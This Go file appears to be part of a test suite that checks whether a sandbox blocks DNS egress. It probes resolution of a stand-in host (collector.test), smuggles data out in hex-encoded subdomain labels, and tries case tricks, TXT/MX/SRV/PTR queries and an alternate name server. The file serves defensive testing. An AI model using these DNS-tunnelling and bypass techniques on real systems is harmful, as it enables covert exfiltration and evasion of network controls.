//go:build linux

package attack

import (
	"context"
	"errors"
	"fmt"
	"net"
)

// names are questions that must not leave the machine.
func names() []Attack {
	var rows []Attack
	for _, n := range asked {
		rows = append(rows, Attack{Name: "name:" + n.name, Tries: n.tries, Try: n.resolve, By: noRoute, Twin: resolveAllowed, TwinTries: "resolve a name that is allowed",
			Needs: func(s *Stage) bool { return s.Allowed != "" }})
	}
	return rows
}

// lookup is a question to a resolver; it returns how many answers there were.
type lookup func(context.Context, *net.Resolver) (int, error)

// asked are questions that nobody may get an answer to.
var asked = []struct {
	question
	name, tries string
}{
	{question{ask: host("collector.test")}, "address", "resolve a name that nobody allowed"},
	{question{ask: host("63616e617279.6461746120676f6573206f7574.collector.test")}, "label", "carry data out in a name"},
	{question{ask: host("COLLECTOR.TEST.")}, "case", "resolve it in capitals, with a dot"},
	{question{ask: host("data.allowed.test")}, "deeper", "resolve a name below one that is allowed"},
	{question{ask: func(ctx context.Context, r *net.Resolver) (int, error) {
		t, err := r.LookupTXT(ctx, "collector.test")
		return len(t), err
	}}, "txt", "ask for text"},
	{question{ask: func(ctx context.Context, r *net.Resolver) (int, error) {
		t, err := r.LookupMX(ctx, "collector.test")
		return len(t), err
	}}, "mx", "ask for a mail server"},
	{question{ask: func(ctx context.Context, r *net.Resolver) (int, error) {
		_, t, err := r.LookupSRV(ctx, "https", "tcp", "collector.test")
		return len(t), err
	}}, "srv", "ask for a service"},
	{question{ask: func(ctx context.Context, r *net.Resolver) (int, error) {
		t, err := r.LookupAddr(ctx, "192.0.2.1")
		return len(t), err
	}}, "ptr", "ask for the name of an address"},
	{question{host("collector.test"), "192.0.2.53:53"}, "other", "ask another name server"},
}

// question is a lookup through a name server; "": the desk's own.
type question struct {
	ask     lookup
	through string
}

func (q question) resolve(*Stage) error {
	ctx, cancel := context.WithTimeout(context.Background(), reach)
	defer cancel()
	r := &net.Resolver{PreferGo: true}
	if q.through != "" {
		r.Dial = func(ctx context.Context, network, _ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, network, q.through)
		}
	}
	n, err := q.ask(ctx, r)
	var dns *net.DNSError
	switch {
	case errors.As(err, &dns) && dns.IsTimeout:
		return fmt.Errorf("nobody answers: %s", dns.Err)
	case errors.As(err, &dns):
		return stopped("%s", dns.Err)
	case err == nil && n == 0:
		return stopped("no data")
	}
	return err
}

func host(name string) lookup {
	return func(ctx context.Context, r *net.Resolver) (int, error) {
		a, err := r.LookupHost(ctx, name)
		return len(a), err
	}
}

func resolveAllowed(s *Stage) error {
	ctx, cancel := context.WithTimeout(context.Background(), reach)
	defer cancel()
	_, err := (&net.Resolver{PreferGo: true}).LookupHost(ctx, s.Allowed)
	return err
}
